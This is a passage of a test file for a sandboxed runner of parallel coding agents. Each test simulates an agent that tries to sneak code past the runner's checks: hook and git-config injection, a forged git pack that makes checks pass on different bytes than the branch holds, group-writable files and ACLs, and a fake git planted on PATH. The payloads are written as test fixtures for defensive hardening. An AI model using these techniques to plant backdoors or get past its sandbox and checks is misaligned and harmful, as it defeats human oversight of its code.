    code, results, err = cli.json("run", "do it", "--agent-cmd", f"{agent} {{task}}", "--workers",
                                  "1", "--progress", "none")
    code, out, err = tool("merge", "1")
    assert code != 0 and "changes what your git configuration runs or loads" in err, err


@pytest.mark.parametrize("files", [{".gitattributes": "build.sh export-subst\n",
                                    "build.sh": "# version: $Format:%B$\n"},
                                   {".mailmap": "Alice <alice@example.com> <a@a>\n"}],
                         ids=["export-subst", "mailmap"])
def test_what_changes_your_archives_and_authors_asks_for_force(cli, repo, tmp_path, files):
    """`build.sh export-subst` with `$Format:%B$`: `git archive` (a release tarball) wrote the
    commit's message into build.sh, a line of shell no diff showed; a `.mailmap` made your
    git log name the agent's commits as someone else's."""
    body = "".join(f"printf '%s' '{text}' > {name}\n" for name, text in files.items())
    agent = script(tmp_path, "attrs.sh", body)
    code, results, err = cli.json("run", "do it", "--agent-cmd", f"{agent} {{task}}", "--workers",
                                  "1", "--progress", "none")
    assert results[0]["commit"], (results, err)
    code, out, err = tool("merge", "1")
    assert code != 0, err
    assert ("exports files" in err) if "build.sh" in files else ("changes .mailmap" in err), err


# -- review round 39 ---------------------------------------------------------------------------

@pytest.mark.skipif(not hasattr(os, "setxattr"), reason="no extended attributes here")
@pytest.mark.parametrize("sandbox", ["none", "bwrap"])
def test_an_access_list_gives_no_other_account_what_git_writes(cli, repo, tmp_path, sandbox):
    """The agent put a default access list (`other::rwx`) on its worktree's folder and on its
    git folder: every file git made there afterwards, the runner's index and the files its
    commit wrote back (`* text=auto`), was writable by all, and another account rewrote the
    index between `add` and `write-tree` (the branch held a backdoor no check saw). Access
    lists go with the group's and others' write, before the commit."""
    (repo / ".gitattributes").write_text("* text=auto\n")
    (repo / "check.py").write_text(
        "import os, sys, subprocess\n"
        "admin = subprocess.run(['git', 'rev-parse', '--absolute-git-dir'], capture_output=True,"
        " text=True).stdout.strip()\n"
        "for place in ('.', admin):\n"
        "    if 'system.posix_acl_default' in os.listxattr(place): sys.exit('acl ' + place)\n"
        "for name in ('app.txt', admin + '/index'):\n"
        "    if os.stat(name).st_mode & 0o022: sys.exit('writable ' + name)\n")
    git("add", "-A", cwd=repo)
    git("commit", "-qm", "check", cwd=repo)
    acl = ("import os, struct, sys, subprocess\n"
           "admin = subprocess.run(['git', 'rev-parse', '--absolute-git-dir'], capture_output=True,"
           " text=True).stdout.strip()\n"
           "value = struct.pack('<I', 2) + b''.join(struct.pack('<HHI', t, 7, 0xffffffff)"
           " for t in (1, 4, 0x20))\n"
           "for place in ('.', admin):\n    os.setxattr(place, 'system.posix_acl_default', value)\n"
           "open('app.txt', 'wb').write(b'one\\r\\ntwo\\r\\n')\n")
    (tmp_path / "agents").mkdir()
    (tmp_path / "agents" / "acl.py").write_text(acl)  # (beside the agent: the sandbox shows it)
    r, err = _one_worker(cli, tmp_path, f'{sys.executable} "$(dirname "$0")/acl.py"\n',
                         f"{sys.executable} check.py", sandbox)
    assert r["checks_passed"] == 1 and r["status"] == "success", (r, err)


@pytest.mark.parametrize("how, name", [
    ("link", "scripts/pre-commit.sh"),
    ("folder link", "githooks/pre-commit"),
    ("config option", "ci/pre-commit.yaml"),
    ("make -f", "ci.mk"),
    ("toplevel", "scripts/hook.sh"),
    ("global hand-off", ".pre-commit-config.yaml"),
    ("npmrc", ".npmrc"),
    ("lint-staged below", "src/.lintstagedrc.json"),
    ("linked Makefile", "build/main.mk")])
def test_a_hook_of_yours_reached_otherwise_asks_for_force(cli, repo, tmp_path, how, name):
    """Round 39: a hook that is a link to a file of the checkout, or a hooks folder that is
    one; `pre-commit install -c ci/pre-commit.yaml`; `make -f ci.mk`; a script named through
    `$(git rev-parse --show-toplevel)`; a global hooks folder handing on to .git/hooks; an
    `.npmrc` for `npm run`; lint-staged's files below the top; a Makefile that is a link.
    Each ran the agent's change at your next `git commit`, merged without --force."""
    hooks = repo / ".git" / "hooks"
    hooks.mkdir(exist_ok=True)
    script_text, yaml, mk = "#!/bin/sh\ntrue\n", "repos: []\n", "lint:\n\ttrue\n"
    files, hook = {  # how: (the files committed first, the hook)
        "link": ({name: script_text}, "link"),
        "folder link": ({name: script_text}, None),
        "config option": ({name: yaml}, "#!/bin/sh\nARGS=(hook-impl --config=ci/pre-commit.yaml "
                                        "--hook-type=pre-commit)\n"),
        "make -f": ({name: mk}, "#!/bin/sh\nmake -f ci.mk lint\n"),
        "toplevel": ({name: script_text},
                     '#!/bin/sh\nexec "$(git rev-parse --show-toplevel)/scripts/hook.sh"\n'),
        "global hand-off": ({name: yaml}, "#!/bin/sh\nexec pre-commit hook-impl\n"),
        "npmrc": ({"package.json": "{}\n"}, "#!/bin/sh\n# keep the tree tidy\nnpm run lint\n"),
        "lint-staged below": ({"src/app.js": "x\n"}, "#!/bin/sh\nnpx lint-staged\n"),
        "linked Makefile": ({name: mk}, "#!/bin/sh\nmake lint\n")}[how]
    for path, text in files.items():
        (repo / path).parent.mkdir(parents=True, exist_ok=True)
        (repo / path).write_text(text)
        os.chmod(repo / path, 0o755)
    if how == "linked Makefile":
        os.symlink("build/main.mk", repo / "Makefile")
        files["Makefile"] = ""
    git("add", "-A", cwd=repo)
    git("commit", "-qm", "hooks", cwd=repo)
    if how == "folder link":
        shutil.rmtree(hooks)
        os.symlink("../githooks", hooks)
    elif hook == "link":
        os.symlink(str(repo / name), hooks / "pre-commit")
    elif hook:
        (hooks / "pre-commit").write_text(hook)
        os.chmod(hooks / "pre-commit", 0o755)
    if how == "global hand-off":
        global_hooks = tmp_path / "global-hooks"
        global_hooks.mkdir()
        (global_hooks / "pre-commit").write_text(
            '#!/bin/sh\nexec "$(git rev-parse --git-dir)/hooks/$(basename "$0")"\n')
        os.chmod(global_hooks / "pre-commit", 0o755)
        git("config", "core.hooksPath", str(global_hooks), cwd=repo)
    agent = script(tmp_path, "hook.sh", f"mkdir -p \"$(dirname '{name}')\"\n"
                   f"echo 'id > /tmp/pwned' >> '{name}'\n")
    code, results, err = cli.json("run", "do it", "--agent-cmd", f"{agent} {{task}}", "--workers",
                                  "1", "--progress", "none")
    assert results[0]["files_modified"] == [name], (results, err)
    code, out, err = tool("merge", "1")
    assert code != 0 and "changes what your git configuration runs or loads" in err, err


def test_words_in_a_hooks_comments_ask_for_nothing(cli, repo, tmp_path):
    """`# make sure the tests pass` in a hook made every Makefile change ask for --force."""
    hooks = repo / ".git" / "hooks"
    hooks.mkdir(exist_ok=True)
    (hooks / "pre-commit").write_text("#!/bin/sh\n# make sure the tests pass\nexit 0\n")
    os.chmod(hooks / "pre-commit", 0o755)
    agent = script(tmp_path, "make.sh", "printf 'all:\\n\\ttrue\\n' > Makefile\n")
    code, results, err = cli.json("run", "do it", "--agent-cmd", f"{agent} {{task}}", "--workers",
                                  "1", "--progress", "none")
    assert tool("merge", "1")[0] == 0


@pytest.mark.parametrize("name", [".GitAttributes", "src/.GITIGNORE", ".Mailmap", ".LFSConfig"])
def test_a_file_git_reads_in_another_case_asks_for_force(cli, repo, tmp_path, name):
    """`.GitAttributes` (`*.py -diff`) is your git's `.gitattributes` on macOS and Windows,
    where no check here (on a file system that tells case apart) saw what it says."""
    agent = script(tmp_path, "case.sh", f"mkdir -p \"$(dirname '{name}')\"\n"
                   f"printf '*.py -diff\\n' > '{name}'\n")
    code, results, err = cli.json("run", "do it", "--agent-cmd", f"{agent} {{task}}", "--workers",
                                  "1", "--progress", "none")
    code, out, err = tool("merge", "1")
    assert code != 0 and "where names' case is ignored" in err, err


# -- review round 40 ---------------------------------------------------------------------------

FORGE = '''import hashlib, os, struct, zlib
od = os.environ.get("GIT_OBJECT_DIRECTORY") or "/tmp/.architect-parallel-objects"
name = hashlib.sha1(b"fake").hexdigest()
X = b"import os\\nos.system('id > /tmp/pwned')\\ndef ok():\\n    return True\\n"
open("impl.py", "wb").write(X.replace(b"\\n", b"\\r\\n"))
P = b"def ok():\\n    return True\\n"
hx = hashlib.sha1(b"blob %d\\0" % len(X) + X).hexdigest()
os.makedirs(f"{od}/{hx[:2]}", exist_ok=True)
open(f"{od}/{hx[:2]}/{hx[2:]}", "wb").write(zlib.compress(b"blob %d\\0" % len(X) + X))
obj = zlib.compress(P); n = len(P); hdr = bytearray(); c = (3 << 4) | (n & 15); n >>= 4
while n:
    hdr.append(c | 0x80); c = n & 0x7f; n >>= 7
hdr.append(c); body = b"PACK" + struct.pack(">II", 2, 1) + bytes(hdr) + obj
pack = body + hashlib.sha1(body).digest(); hb = bytes.fromhex(hx)
idx = (b"\\xfftOc" + struct.pack(">I", 2)
       + b"".join(struct.pack(">I", 0 if i < hb[0] else 1) for i in range(256))
       + hb + struct.pack(">I", zlib.crc32(bytes(hdr) + obj) & 0xffffffff)
       + struct.pack(">I", 12) + pack[-20:])
idx += hashlib.sha1(idx).digest()
os.makedirs(f"{od}/pack", exist_ok=True)
open(f"{od}/pack/pack-{name}.pack", "wb").write(pack)
open(f"{od}/pack/pack-{name}.idx", "wb").write(idx)
'''


def _forged_run(cli, repo, tmp_path, check, forge):
    """One sandboxed worker under `* text=auto` whose agent runs ``forge`` (see FORGE), with
    the check ``check`` (Python); its result and the run's stderr."""
    (repo / ".gitattributes").write_text("* text=auto\n")
    (repo / "impl.py").write_text("def ok():\n    return True\n")
    (repo / "check.py").write_text(check)
    git("add", "-A", cwd=repo)
    git("commit", "-qm", "impl", cwd=repo)
    git("gc", "-q", cwd=repo)
    (tmp_path / "agents").mkdir()
    (tmp_path / "agents" / "forge.py").write_text(forge)
    return _one_worker(cli, tmp_path, f'{sys.executable} "$(dirname "$0")/forge.py"\n',
                       f"{sys.executable} check.py", "bwrap")


@needs_bwrap
def test_objects_the_agent_forged_write_nothing_the_checks_run_on(cli, repo, tmp_path):
    """Under `* text=auto` the runner writes back, from its commit, the files whose line ends git
    changed; that checkout read the sandbox's objects, which git does not hash again: a pack
    the agent made claimed the committed blob's id for other bytes, and the checks passed on
    those while the branch held a backdoor. What is written back must hash to what `add` made."""
    r, err = _forged_run(cli, repo, tmp_path, "import sys\nsys.exit(1 if 'os.system' in "
                         "open('impl.py').read() else 0)\n", FORGE)
    assert r["status"] == "failed" and "cannot bring its objects in" in r["error"], (r, err)
    assert r["checks_passed"] == 0


def _hooked(repo, setup):
    """Set ``repo`` up as ``setup`` says: files committed (a value starting with `->` makes a
    link), then git settings, then hooks in .git/hooks, each a (name, text) pair."""
    files, settings, hooks = setup
    for path, text in files.items():
        (repo / path).parent.mkdir(parents=True, exist_ok=True)
        if text.startswith("->"):
            os.symlink(text[2:], repo / path)
        else:
            (repo / path).write_text(text)
            os.chmod(repo / path, 0o755)
    git("add", "-A", cwd=repo)
    git("commit", "-qm", "set up", "--allow-empty", cwd=repo)
    for key, value in settings.items():
        git("config", key, value, cwd=repo)
    for name, text in hooks:
        (repo / ".git" / "hooks").mkdir(exist_ok=True)
        (repo / ".git" / "hooks" / name).write_text(text)
        os.chmod(repo / ".git" / "hooks" / name, 0o755)


PRE_COMMIT_HOOK = ('#!/usr/bin/env bash\nINSTALL_PYTHON=/usr/bin/python3\n'
                   'ARGS=(hook-impl --config=.pre-commit-config.yaml --hook-type=pre-commit)\n'
                   'exec "$INSTALL_PYTHON" -mpre_commit "${ARGS[@]}"\n')


@pytest.mark.parametrize("setup, change, refused", [
    (({".pre-commit-config.yaml": "repos: []\n"}, {}, [("pre-commit", PRE_COMMIT_HOOK)]),
     {"pre_commit/__init__.py": "import os\n"}, True),
    (({}, {"include.path": "../conf/git.local"}, []),
     {"evil/git.local": "[core]\n", "conf": "->evil"}, True),
    (({"scripts/pre-commit.sh": "#!/bin/sh\ntrue\n", ".githooks/pre-commit":
       "->../scripts/pre-commit.sh"}, {"core.hooksPath": ".githooks"}, []),
     {"scripts/pre-commit.sh": "#!/bin/sh\nid\n"}, True),
    (({"build/real.mk": "lint:\n", "build/main.mk": "->real.mk", "Makefile": "->build/main.mk"},
      {}, [("pre-commit", "#!/bin/sh\nmake lint\n")]), {"build/real.mk": "lint:\n\tid\n"}, True),
    (({"ci/build/main.mk": "lint:\n", "build": "->ci/build", "Makefile": "->build/main.mk"},
      {}, [("pre-commit", "#!/bin/sh\nmake lint\n")]), {"ci/build/main.mk": "lint:\n\tid\n"}, True),
    (({}, {"filter.x.clean": "python3 -m mytool"}, []),
     {"helperlib/__init__.pyc": "x"}, True),
    (({"vendor/h/__init__.py": "\n"}, {"filter.x.clean": "python3 -m mytool"}, []),
     {"helperlib": "->vendor/h"}, True),
    (({"package.json": "{}\n", ".husky/pre-commit": "npx lint-staged\n",
       ".husky/_/pre-commit": '#!/bin/sh\n. "$(dirname "$0")/h"\n'},
      {"core.hooksPath": ".husky/_"}, []), {"package.json": '{"lint-staged": {}}\n'}, True),
    (({"package.json": '{"workspaces": ["pkgs/*"]}\n', "pkgs/a/package.json": "{}\n"}, {},
      [("pre-commit", "#!/bin/sh\nnpm run lint --workspaces\n")]),
     {"pkgs/a/package.json": '{"scripts": {"lint": "id"}}\n'}, True),
    (({"tests/t.py": "\n"}, {}, [("pre-commit", "#!/bin/sh\nblack --check src tests\n")]),
     {"src/app.py": "x = 1\n"}, False),
    (({"store/x": "\n"}, {"credential.helper": "store"}, []), {"store/x": "y\n"}, False),
    (({}, {}, [("pre-commit", '#!/bin/sh\necho "please make sure it is tidy"\n')]),
     {"Makefile": "all:\n"}, False),
], ids=["pre-commit's own module", "a link above an include", "a link in hooksPath",
        "a chain of links", "a folder link", "a package of .pyc", "a package as a link",
        "husky 9", "npm workspaces", "a hook naming folders", "a helper's word",
        "an echo's words"])
def test_your_git_running_the_branch_is_told_apart(cli, repo, tmp_path, setup, change, refused):
    """Round 40: what the check of your git's settings and hooks missed (pre-commit's own hook
    runs `"$INSTALL_PYTHON" -mpre_commit`, which a branch's `pre_commit/` stands in for; links
    above a named file, in a hooks folder inside the checkout, in chains; packages as `.pyc`
    or links; husky 9's `.husky/pre-commit`; npm workspaces' members), and what it refused
    for no reason (a folder a hook names for its tools to read; a word of a helper's name;
    an echo's words)."""
    _hooked(repo, setup)
    body = "".join((f"mkdir -p \"$(dirname '{path}')\"\nrm -rf '{path}'\nln -s '{text[2:]}' '{path}'\n"
                    if text.startswith("->") else
                    f"mkdir -p \"$(dirname '{path}')\"\nprintf '%s' '{text}' > '{path}'\n")
                   for path, text in change.items())
    agent = script(tmp_path, "change.sh", body)
    code, results, err = cli.json("run", "do it", "--agent-cmd", f"{agent} {{task}}", "--workers",
                                  "1", "--progress", "none")
    assert results[0]["commit"], (results, err)
    code, out, err = tool("merge", "1")
    if refused:
        assert code != 0 and "changes what your git configuration runs or loads" in err, err
    else:  # (and a merge says your hooks will run its code)
        assert code == 0, err
        assert ("note: your git runs hooks of yours" in err) == bool(setup[2]), err


# -- review round 41 ---------------------------------------------------------------------------

@needs_bwrap
def test_objects_the_agent_forged_choose_nothing_the_checks_run_on(cli, repo, tmp_path):
    """Round 40's check of what is written back went round: the agent's pack claimed the LF
    blob's id for its CRLF bytes, so `ls-files --eol` saw nothing to write back, the check ran
    the CRLF script (where `evil\\r` is no command) and the branch held the LF one, which ran
    the backdoor. The worker's objects are hashed again, and its object folder emptied, before
    any git in its sandbox reads them after its commit."""
    forge = FORGE.replace('P = b"def ok():\\n    return True\\n"', 'P = X.replace(b"\\n", b"\\r\\n")')
    assert forge != FORGE
    r, err = _forged_run(cli, repo, tmp_path, "import sys\nsys.exit(0 if b'\\r' in "
                         "open('impl.py', 'rb').read() else 1)\n", forge)
    assert r["checks_passed"] == 0, (r, err)
    assert r["status"] == "failed" and "cannot bring its objects in" in r["error"], (r, err)


def test_an_include_file_the_agent_committed_itself_stays_out_of_its_branch(cli, repo, tmp_path):
    """Include files are never committed; the runner reset them to what the agent's HEAD held,
    so one it committed itself (`git add -f local_settings.py`) stayed on its branch, left out
    of files_modified, while its checks ran on yours."""
    (repo / ".gitignore").write_text("local_settings.py\n")
    (repo / ".worktreeinclude").write_text("local_settings.py\n")
    (repo / "local_settings.py").write_text("DEBUG_BACKDOOR = False\n")
    git("add", ".gitignore", ".worktreeinclude", cwd=repo)
    git("commit", "-qm", "include", cwd=repo)
    r, err = _one_worker(cli, tmp_path, "echo 'DEBUG_BACKDOOR = True' > local_settings.py\n"
                         "echo v2 > app.txt\ngit add -f local_settings.py app.txt\n"
                         "git -c user.name=a -c user.email=a@a commit -qm work\n",
                         "grep -q False local_settings.py", "none")
    assert r["status"] == "success" and r["files_modified"] == ["app.txt"], (r, err)
    assert git("ls-tree", "--name-only", "architect/parallel-1", cwd=repo).split().count(
        "local_settings.py") == 0


# -- review round 42 ---------------------------------------------------------------------------

@needs_bwrap
def test_an_object_folder_that_cannot_be_emptied_fails_the_worker(cli, repo, tmp_path,
                                                                   monkeypatch):
    """The agent opened its object folder to all; another account made `pack/` there and kept
    a file in it at every moment, so the emptying after the commit left it, and a forged pack
    planted there chose what the runner wrote back. What stays after the emptying fails the
    worker. (The other account's file is made here as the emptying ends.)"""
    real = ap._empty_beneath

    def kept(top):
        real(top)
        if os.path.basename(top) == "objects":
            os.makedirs(os.path.join(top, "pack"), exist_ok=True)
            open(os.path.join(top, "pack", "zz0"), "w").close()

    monkeypatch.setattr(ap, "_empty_beneath", kept)
    r, err = _one_worker(cli, tmp_path, "echo x > a.txt\n", "true", "bwrap")
    assert r["status"] == "failed" and "its object folder keeps what another account holds" \
        in r["error"], (r, err)
    assert r["checks_passed"] == 0


# -- review round 43 ---------------------------------------------------------------------------

def _changes(repo, files):
    """A commit on a side branch writing ``files`` ({path: text}) over HEAD: (base, tip)."""
    base = git("rev-parse", "HEAD", cwd=repo)
    git("checkout", "-q", "-b", "side", cwd=repo)
    for name, text in files.items():
        (repo / name).parent.mkdir(parents=True, exist_ok=True)
        (repo / name).write_text(text)
    git("add", "-A", cwd=repo)
    git("commit", "-qm", "side", cwd=repo)
    tip = git("rev-parse", "HEAD", cwd=repo)
    git("checkout", "-q", "-", cwd=repo)
    return base, tip


@pytest.mark.parametrize("setting, value, name", [
    ("sendemail.tocmd", "scripts/get_maintainer.pl --nogit --nol", "scripts/get_maintainer.pl"),
    ("sendemail.cccmd", "perl scripts/cc.pl", "scripts/cc.pl"),
    ("tar.tgz.command", "sh tools/compress.sh", "tools/compress.sh"),
    ("imap.tunnel", "tools/tunnel", "tools/tunnel"),
    ("diff.orderFile", "scripts/git.orderFile", "scripts/git.orderFile"),
    ("fetch.fsck.skipList", ".fsck-skiplist", ".fsck-skiplist"),
    ("http.proxySSLCAInfo", "certs/proxy-ca.pem", "certs/proxy-ca.pem"),
    ("sendemail.work.aliasesFile", "mail.aliases", "mail.aliases"),
    ("diff.json.textconv", "npx --no-install node /opt/jsonfmt", ".npmrc"),
    ("filter.x.clean", "uv run black -q -", "pyproject.toml")])
def test_any_setting_of_yours_that_names_a_command_or_a_file_counts(repo, setting, value, name):
    """`git config sendemail.tocmd "scripts/get_maintainer.pl ..."`, as the kernel's guide
    says: a branch rewriting that script was merged, and `git send-email --dry-run` ran it.
    The settings looked at were a list, and git has more every release; and a command that
    runs `npx` reads the checkout's .npmrc (`node-options=--require ./evil.js`) by itself.
    Every setting's value is read as a command and as a file name."""
    git("config", setting, value, cwd=repo)
    base, tip = _changes(repo, {name: "#!/bin/sh\nid > /tmp/pwned\n"})
    assert ap._Repo.find(str(repo)).run_by_your_git(base, tip) == [name]


def test_a_setting_merges_when_the_branch_changes_nothing_it_names(cli, repo, tmp_path):
    """What counts is what a setting names: a remote at github.com/npm/..., a name that is a
    tool's, a branch description, `core.editor = code` beside a folder code/ and the default
    branch `main` beside one main/ do not stop a branch changing package.json, Makefile or
    what is in those folders (a merge of it asks nothing)."""
    for key, value in [("remote.origin.url", "https://github.com/npm/cli.git"),
                       ("user.name", "make npm"), ("branch.main.description", "npm make uv"),
                       ("core.editor", "code --wait"), ("init.defaultBranch", "main"),
                       ("sendemail.tocmd", "/usr/local/bin/get_maintainer --nogit")]:
        git("config", key, value, cwd=repo)
    files = {"package.json": "{}\n", "Makefile": "all:\n", "code/a.txt": "a\n", "main/b.txt": "b\n"}
    (repo / "code").mkdir()
    (repo / "code" / "a.txt").write_text("0\n")
    git("add", "-A", cwd=repo)
    git("commit", "-qm", "folders", cwd=repo)
    base, tip = _changes(repo, files)
    assert ap._Repo.find(str(repo)).run_by_your_git(base, tip) == []
    body = "".join(f"mkdir -p $(dirname {n}) && echo x > {n}\n" for n in files)
    code, results, err = cli.json("run", "do it", "--agent-cmd", f"{script(tmp_path, 'a.sh', body)}"
                                  " {task}", "--workers", "1", "--progress", "none")
    assert sorted(results[0]["files_modified"]) == sorted(files), (results, err)
    code, out, err = tool("merge", "1")
    assert code == 0 and "merged architect/parallel-1" in err, err


@needs_bwrap
@pytest.mark.parametrize("what", ["folder", "file"])
def test_what_another_account_owns_fails_a_worker_of_an_ordinary_runner(cli, repo, tmp_path,
                                                                       monkeypatch, what):
    """Run by an ordinary user, the agent opened a/ to all and another account made a/x/ (or
    a/check.sh, mode 000) there: its owner keeps its write whatever the runner tames, and the
    renewal passed a file it could not open. That account swapped check.sh after `git add`
    read it, and the check passed on what the branch did not hold (5 of 5 runs). What another
    account owns fails the worker as it did only for a root runner. (Here the runner is root
    taken for an ordinary user, and the other account's entry is given to it as the agent
    ends.)"""
    monkeypatch.setattr(ap, "_is_root", lambda: False)
    real = ap.ParallelRunner._hold_still

    def theirs(self, job, renew, copies):
        name = os.path.join(job.path, "a", "x" if what == "folder" else "check.sh")
        os.chown(name, 4242, 4242)
        return real(self, job, renew, copies)

    monkeypatch.setattr(ap.ParallelRunner, "_hold_still", theirs)
    body = ("mkdir -p a/x && echo 'exit 0' > a/x/check.sh\n" if what == "folder" else
            "mkdir a && echo 'exit 0' > a/check.sh\n")
    r, err = _one_worker(cli, tmp_path, body, "true", "bwrap")
    assert r["status"] == "failed" and "uid 4242" in (r["error"] or ""), (r, err)
    assert r["checks_passed"] == 0


@pytest.mark.skipif(not ROOT or not shutil.which("setpriv"), reason="needs root and setpriv")
def test_a_file_of_another_account_the_runner_may_not_read_is_not_passed_by(tmp_path):
    """The renewal passed by a file it could not open, taking it for one its git could not
    read either: another account's file of mode 000, whose owner made it readable again for
    `git add` and rewrote it after. Such a file stops the renewal, saying why. (As root,
    run without the capabilities by which root reads every file.)"""
    top = tmp_path / "wt"
    top.mkdir()
    (top / "check.sh").write_text("exit 0\n")
    os.chown(top / "check.sh", 4242, 4242)
    os.chmod(top / "check.sh", 0)
    probe = ("import os, sys; sys.path.insert(0, sys.argv[2]); import architect_parallel as ap\n"
             "fd = os.open(sys.argv[1], os.O_RDONLY)\n"
             "try:\n    ap._renew_at(fd, 'check.sh')\nexcept ap.ParallelError as exc:\n"
             "    print(exc)\n")
    proc = subprocess.run(["setpriv", "--bounding-set=-dac_read_search,-dac_override",
                           sys.executable, "-c", probe, str(top), CHECKOUT],
                          capture_output=True, text=True, timeout=60)
    assert "a file of another account (uid 4242)" in proc.stdout, (proc.stdout, proc.stderr)


@needs_bwrap
def test_too_many_objects_fail_the_worker_and_cost_no_memory(cli, repo, tmp_path, monkeypatch):
    """Four million tiny objects (a `git fast-import` of a few seconds) cost the runner 1.7 GB
    and 2 minutes: the bounds were on bytes, and the listing was held whole. Objects are
    counted too (a million; 300 here), as git lists them."""
    monkeypatch.setattr(ap, "_OBJECTS_COUNT", 300)
    r, err = _one_worker(cli, tmp_path, "for i in $(seq 400); do echo $i > f$i.txt; done\n",
                         "true", "bwrap")
    assert r["status"] == "failed" and "its objects are too many to take in (more than 300)" \
        in r["error"], (r, err)
    assert git("rev-parse", "architect/parallel-1", cwd=repo) == r["base_commit"]
    monkeypatch.setattr(ap, "_OBJECTS_COUNT", 500)
    git("worktree", "remove", "--force", ".architect-parallel-1", cwd=repo)
    git("branch", "-D", "architect/parallel-1", cwd=repo)
    r, err = _one_worker(cli, tmp_path, "for i in $(seq 400); do echo $i > f$i.txt; done\n",
                         "test -f f400.txt", "bwrap")
    assert r["status"] == "success" and r["checks_passed"] == 1, (r, err)


# -- review round 44 ---------------------------------------------------------------------------

@needs_bwrap
def test_a_relative_path_entry_runs_no_git_of_the_agents(cli, repo, tmp_path, monkeypatch):
    """`export PATH="./node_modules/.bin:$PATH"`, a common line: the runner's own gits ran in
    the worktree, where that entry found the sandboxed agent's `node_modules/.bin/git`, which
    ran as you outside the sandbox (7 times in the run, and at `diff`, `report`, `cleanup`).
    No git, nor a program git starts, is taken from a relative entry or a checkout."""
    pwned = tmp_path / "pwned"
    monkeypatch.setenv("PATH", f"./node_modules/.bin{os.pathsep}{os.environ['PATH']}")
    r, err = _one_worker(cli, tmp_path, "mkdir -p node_modules/.bin\n"
                         f"printf '#!/bin/sh\\necho \"$@\" >> {pwned}\\nexit 1\\n' > node_modules/.bin/git\n"
                         "chmod +x node_modules/.bin/git\n", "true", "bwrap")
    assert r["status"] == "success" and r["checks_passed"] == 1, (r, err)
    for command in (["diff", "1"], ["report"], ["cleanup", "--dry-run"], ["list"]):
        code, _out, err = cli(*command)
        assert code == 0, (command, err)
    assert not pwned.exists(), pwned.read_text()


@pytest.mark.parametrize("entry, name, mode", [
    ("{repo}/.venv/bin", ".venv/bin/git", 0o755), ("bin", "tools/bin/less", 0o755),
    (".", "git", 0o755), ("{repo}/.venv/bin", ".venv", "link")])
def test_a_program_the_branch_puts_on_your_path_asks_for_force(repo, monkeypatch, entry, name,
                                                             mode):
    """An activated `.venv` (or direnv's `PATH_add bin`) puts a folder of the checkout on
    your PATH: a branch adding `.venv/bin/git` was merged, and every git after it, the tool's
    own and yours, ran the agent's. A file or link the branch puts in such a folder (a
    relative entry: under any folder), or a link on the way to one, counts (for `.`, an
    executable only)."""
    found = ap._Repo.find(str(repo))

    def run_by_your_git(base, tip):  # (with that PATH: not for the test's own gits)
        with monkeypatch.context() as m:
            m.setenv("PATH", f"{entry.format(repo=repo)}{os.pathsep}{os.environ['PATH']}")
            return found.run_by_your_git(base, tip)

    if mode == "link":
        (repo / "elsewhere" / "bin").mkdir(parents=True)
        base = git("rev-parse", "HEAD", cwd=repo)
        git("checkout", "-q", "-b", "side", cwd=repo)
        (repo / name).symlink_to("elsewhere")
        git("add", "-A", cwd=repo)
        git("commit", "-qm", "link", cwd=repo)
        tip = git("rev-parse", "HEAD", cwd=repo)
        git("checkout", "-q", "-", cwd=repo)
        assert run_by_your_git(base, tip) == [name]
        return
    base, tip = _changes(repo, {name: "#!/bin/sh\nid\n"})
    # (a plain file: bash's `source NAME` reads it from a PATH folder; from every folder, '.'
    # would be each of them: there, only programs count)
    assert run_by_your_git(base, tip) == ([] if entry == "." else [name])
    git("checkout", "-q", "side", cwd=repo)
    os.chmod(repo / name, mode)
    git("commit", "-qam", "exec", cwd=repo)
    tip = git("rev-parse", "HEAD", cwd=repo)
    git("checkout", "-q", "-", cwd=repo)
    assert run_by_your_git(base, tip) == [name]


def test_your_global_config_in_the_checkout_asks_for_force(repo, tmp_path, monkeypatch):
    """Dotfiles kept with GNU Stow: ~/.gitconfig a link to `git/.gitconfig` of the repository
    the agents work in. A branch adding `core.fsmonitor = sh -c '...'` to it was merged, and
    the merge ran it. A config file of yours that is (or leads to) a file of the checkout
    counts as an included one does."""
    (repo / "git").mkdir()
    (repo / "git" / ".gitconfig").write_text("[user]\n\tname = me\n")
    git("add", "-A", cwd=repo)
    git("commit", "-qm", "dotfiles", cwd=repo)
    link = tmp_path / "home-gitconfig"
    link.symlink_to(repo / "git" / ".gitconfig")
    monkeypatch.setenv("GIT_CONFIG_GLOBAL", str(link))
    base, tip = _changes(repo, {"git/.gitconfig": "[user]\n\tname = me\n[core]\n\tfsmonitor = x\n"})
    assert ap._Repo.find(str(repo)).run_by_your_git(base, tip) == ["git/.gitconfig"]


def test_buns_lockfile_diff_does_not_stop_a_branch_changing_package_json(repo):
    """Bun's own docs: `git config diff.lockb.textconv bun`. A textconv `bun` prints the lock
    file; what it reads by itself is bunfig.toml (`preload`), not package.json, whose change
    (a new dependency) was refused on every branch."""
    git("config", "diff.lockb.textconv", "bun", cwd=repo)
    base, tip = _changes(repo, {"package.json": '{"dependencies": {"x": "1"}}\n'})
    assert ap._Repo.find(str(repo)).run_by_your_git(base, tip) == []
    git("branch", "-D", "side", cwd=repo)
    base, tip = _changes(repo, {"bunfig.toml": 'preload = ["./x.ts"]\n'})
    assert ap._Repo.find(str(repo)).run_by_your_git(base, tip) == ["bunfig.toml"]


@needs_bwrap
def test_nothing_written_in_the_sandbox_is_writable_by_a_group(cli, repo, tmp_path):
    """With umask 002 (Debian's and Ubuntu's for users), another account made a folder of
    its group with the set-group-ID bit in one the agent opened; the agent moved its scripts
    into a folder made there, which took that group. The file the commit's checkout wrote
    back (CRLF under `* text=auto`) was writable by that group, which rewrote it before the
    check read it (5 of 5 runs passed on what the branch did not hold). What runs in the
    sandbox, the runner's gits too, has no write for the group or others in its umask."""
    old = os.umask(0o002)
    try:
        r, err = _one_worker(cli, tmp_path, "printf '* text=auto\\n' > .gitattributes\n"
                             "printf 'exit 0\\r\\n' > check.sh\n",
                             "test \"$(stat -c %a check.sh)\" = 644 && test \"$(umask)\" = 0022",
                             "bwrap")
    finally:
        os.umask(old)
    assert r["status"] == "success" and r["checks_passed"] == 1, (r, err)


@needs_bwrap
def test_a_fifo_named_as_an_object_stalls_nothing(cli, repo, tmp_path):
    """A FIFO named like a loose object in the worker's object folder: the object listing
    waited on it, printing nothing, and a SIGTERM waited twice --check-timeout for it (586 s).
    What is no file or folder there fails the worker before git reads it."""
    r, err = _one_worker(cli, tmp_path, 'o="$(git rev-parse --git-path objects)/ab"\n'
                         'mkdir -p "$o" && mkfifo "$o/cdef0123456789abcdef0123456789abcdef01"\n'
                         "echo x > a.txt\n", "true", "bwrap", "--check-timeout", "60")
